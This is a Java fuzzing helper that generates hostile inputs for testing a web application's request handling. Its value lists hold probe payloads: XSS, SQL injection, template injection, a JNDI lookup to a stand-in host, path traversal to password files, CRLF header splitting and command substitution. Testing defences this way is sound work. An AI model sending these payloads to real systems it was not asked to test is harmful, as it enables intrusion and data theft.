package org.turntable.promises.fuzz;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Values that programs stumble over. Everything is a function of the random numbers that it is given. */
final class HostileText {
    /** Marks of values that must not come back as they are: a tag, and the ends of attributes. */
    static final List<String> MARKS = List.of("<fuzz", "fuzz\"on", "fuzz'on");
    /** The product that a template with 7919*7919 would show. */
    static final String EVALUATED = "62710561";
    /** The name of a header and of a cookie that only a split answer has. */
    static final String SPLIT = "fuzz-split";

    private static final List<String> VALUES = List.of(
            "",
            " ",
            "0",
            "-1",
            "-9223372036854775808",
            "2147483648",
            "999999999999999999999999999999",
            "1e308",
            "NaN",
            "0x10",
            "١٢٣",
            "true",
            "null",
            "\"><fuzz onload=alert(1)>",
            "fuzz\"onfocus=x",
            "fuzz'onfocus=x",
            "javascript:alert(1)",
            "//evil.example/x",
            "https://evil.example/",
            "/\\evil.example",
            "' OR '1'='1' -- ",
            "1; DROP TABLE draw; --",
            "%' UNION SELECT 1,2,3 #",
            "${7919*7919}",
            "#{7919*7919}",
            "<#assign x=7919*7919>${x}",
            "{{7919*7919}}",
            "${jndi:ldap://evil.example/x}",
            "%{7919*7919}",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "x\r\nFuzz-Split: 1\r\nSet-Cookie: fuzz-split=1\r\n\r\n",
            "x\nfuzz-split: 1",
            "\0",
            "a\0b",
            "\u0001\u0007\u001b[31m",
            "\ud800",
            "\udfff\ud800",
            "\ud83d\ude00\ud83d\ude00",
            "\u202egnp.exe",
            "\ufeff\u200b\u2028\u2029",
            "e\u0301\u0327\u0301",
            "转盘抽奖",
            "ſı\u0130ß",
            "{\"a\":[",
            "[]",
            "%",
            "%zz",
            "a&b=c&csrf=x",
            "*?[a-z]",
            "$(sleep 9)",
            "`id`");
    /** Bytes of a path or a query as a sloppy client sends them; no control characters, which would end the line. */
    private static final List<String> SLOPPY = List.of(
            "%",
            "%2",
            "%zz",
            "%00",
            "%0d%0aFuzz-Split:%201",
            "%c0%ae",
            "%ff%fe",
            "%ed%a0%80",
            "%u0041",
            "%252e",
            "%2f",
            "%5c",
            ";",
            ";jsessionid=1",
            "..",
            ".",
            "\\",
            "|",
            "<fuzz>",
            "{}",
            "^",
            "\u00e3\u0080\u0082",
            "\u00ff",
            "[",
            "~",
            "%E3%80%82",
            "#",
            "+",
            "*");

    private HostileText() {}

    /** A text of up to 20,000 characters, of any kind. */
    static String value(Random random) {
        String one = VALUES.get(random.nextInt(VALUES.size()));
        return switch (random.nextInt(12)) {
            case 0 -> one.repeat(1 + random.nextInt(60));
            case 1 -> one + VALUES.get(random.nextInt(VALUES.size()));
            case 2 -> "x".repeat(1 << random.nextInt(14)) + one;
            case 3 -> anything(random);
            default -> one;
        };
    }

    private static String anything(Random random) {
        StringBuilder text = new StringBuilder();
        for (int left = random.nextInt(40); left > 0; left--) {
            text.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x10000) : random.nextInt(0x100)));
        }
        return text.toString();
    }

    /** A segment of a path: encoded as it should be, or not. */
    static String segment(Random random) {
        if (random.nextBoolean()) {
            return SLOPPY.get(random.nextInt(SLOPPY.size()));
        }
        String value = value(random);
        // Longer lines are refused by the edge as a whole.
        String encoded = encoded(value.substring(0, Math.min(value.length(), 1_500)));
        return encoded.isEmpty() ? "%20" : encoded;
    }

    /** A name or value of a form or query; one of eight with broken encodings. */
    static String formValue(Random random) {
        return random.nextInt(8) == 0 ? SLOPPY.get(random.nextInt(SLOPPY.size())) : encoded(value(random));
    }

    /** The value of a header: whatever can stand on one line, as UTF-8 bytes. */
    static String header(Random random) {
        String value = value(random).replaceAll("[\\r\\n\\x00]", "");
        return latin(value.substring(0, Math.min(value.length(), 1_000)));
    }

    /** UTF-8 bytes as characters up to 255, as raw requests are written. */
    static String latin(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
